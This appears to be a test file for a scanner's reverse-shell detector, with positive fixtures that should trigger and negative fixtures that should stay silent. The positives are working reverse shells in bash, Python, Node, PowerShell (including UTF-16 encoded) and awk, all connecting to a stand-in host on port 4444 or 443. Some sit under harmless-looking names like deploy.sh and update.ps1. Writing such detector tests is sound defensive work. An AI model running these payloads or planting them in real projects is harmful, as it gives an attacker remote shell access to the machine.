from _kit import fires, silent, utf16

fires("shell_script_dev_tcp", "reverse_shell", "critical", "scripts/deploy.sh",
      "deploy.sh", "#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", mode="755")
fires("python_pty_socket", "reverse_shell", "critical", "tools/helper.py",
      "helper.py", "import socket, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
      "s.connect(('203.0.113.7', 4444))\n[__import__('os').dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/sh')\n")
fires("node_net_spawn", "reverse_shell", "critical", "lib/net.js",
      "net.js", "var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n"
      "var client = new net.Socket();\nclient.connect(4444, '203.0.113.7', function () {\n"
      "  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);\n});\n")
silent("reverse_shell_in_docs", "reverse_shell", "docs/security.md",
       "security.md", "# Detecting reverse shells\n\nA classic one-liner:\n\n    bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")
silent("python_cgi_dup2", "reverse_shell", "lib/cgi.py",
       "cgi.py", "import os, select\n\ndef run_cgi(self):\n    os.dup2(self.rfile.fileno(), 0)\n    os.dup2(self.wfile.fileno(), 1)\n    os.execve(scriptfile, args, env)\n")
silent("python_socket_server", "reverse_shell", "tools/server.py",
       "server.py", "import socket, pty, os\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(('127.0.0.1', port))\n"
       "    s.listen()\n\ndef shell():\n    pid, fd = pty.fork()\n    return fd\n")

PS_SHELL = ("$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$s = $c.GetStream();"
            "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);"
            "$o = (iex $d 2>&1 | Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}\r\n")
fires("powershell_utf16_bom", "reverse_shell", "critical", "tools/update.ps1", "update.ps1", utf16(PS_SHELL))
silent("powershell_utf16_port_check", "reverse_shell", "tools/check-port.ps1",
       "check-port.ps1", utf16("$c = New-Object System.Net.Sockets.TCPClient('db.internal', 5432)\r\n"
                               "if ($c.Connected) { Write-Host 'database reachable' }\r\n$c.Close()\r\n"))
fires("python_utf16_no_bom", "reverse_shell", "critical", "tools/sync.py",
      "sync16.py", utf16("import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.7',4444))\n"
                         "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\n", bom=False))
fires("awk_inet_shell", "reverse_shell", "critical", "scripts/net.sh",
      "awk.sh", "#!/bin/sh\nawk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) {printf \"> \" |& s; s |& getline c; while ((c |& getline) > 0) print |& s; close(c)}}'\n",
      mode="755")
